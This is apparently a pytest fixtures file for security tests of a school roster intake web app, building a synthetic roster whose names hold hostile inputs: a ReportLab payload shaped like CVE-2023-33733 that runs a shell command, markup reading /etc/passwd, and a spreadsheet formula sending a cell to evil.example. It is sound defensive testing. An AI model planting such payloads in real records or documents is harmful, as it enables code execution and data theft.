"""Fixtures of the security tests: the web tests' app, database, fake reader and logged-in
clients (imported from ``tests/web/conftest.py``), plus a roster holding hostile names and one
form taken through upload and review, ready for an approver."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date

import pytest
from argon2 import PasswordHasher
from flask.testing import FlaskClient
from web.conftest import (  # noqa: F401 - fixtures re-used by the security tests
    PASSWORD,
    app,
    batch_ctx,
    client_as,
    csrf_from,
    database_url,
    db_factory,
    fast_hashes,
    login,
    queue,
    reader,
    settings,
    users,
)

from intake.accounts import passwords
from intake.roster.csv_io import RosterFile
from intake.roster.importing import SourceFile, import_roster
from intake.roster.model import Address, Contact, Relationship, Roster, Student
from intake.roster.upn import make_upn

#: the CVE-2023-33733 payload shape and other markup, as names in the school's records
LETTER_MARKUP = '<img src="/etc/passwd"/>'
FONT_PAYLOAD = "<font color=\"[[[getattr(pow, Word('__globals__'))['os'].system('id')]]]\">x</font>"
FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"Click")'


def hostile_roster() -> Roster:
    """Synthetic: S1 Tom Smith (the fake reader's child) with C1, a PR contact whose names are
    spreadsheet formulas; S2 a pupil named with ReportLab markup, C2 (PR) whose surname is
    the CVE-2023-33733 payload."""
    home = Address(("12 Acacia Avenue", "Belper"), "DE56 1AA")
    students = (
        Student(
            "S1",
            make_upn("830", "4001", 13, 1),
            "Tom",
            "Smith",
            "Tom",
            "Smith",
            date(2013, 3, 4),
            7,
            "7A",
        ),
        Student(
            "S2",
            make_upn("830", "4001", 12, 2),
            LETTER_MARKUP,
            "Tester",
            LETTER_MARKUP,
            "Tester",
            date(2012, 5, 6),
            8,
            "8B",
        ),
    )
    contacts = (
        Contact("C1", "Mrs", FORMULA, "+447700900123", home, email="@SUM(1+1)@example.org"),
        Contact(
            "C2",
            "Dr",
            "-2+3",
            FONT_PAYLOAD,
            Address(("\t9 Tab Street",), "DE56 2BB"),
            email="c2@example.org",
        ),
    )
    relationships = (
        Relationship("S1", "C1", "PAM", True, 1),
        Relationship("S2", "C2", "PAF", True, 1),
    )
    return Roster(students, contacts, relationships)


@pytest.fixture(autouse=True)
def cheap_portal_hashes(monkeypatch: pytest.MonkeyPatch) -> None:
    """The accounts area's argon2id with small costs (its parameters are tested there)."""
    monkeypatch.setattr(
        passwords, "_hasher", PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
    )


@pytest.fixture
def roster(db_factory) -> Roster:  # noqa: F811 - the fixture above
    """The hostile roster, imported into the test database."""
    data = hostile_roster()
    with db_factory() as session, session.begin():
        import_roster(session, [SourceFile("roster.csv", "0" * 64, RosterFile(data))], full=True)
    return data


@pytest.fixture
def approver(client_as: Callable[[str], FlaskClient]) -> FlaskClient:  # noqa: F811
    return client_as("approver")
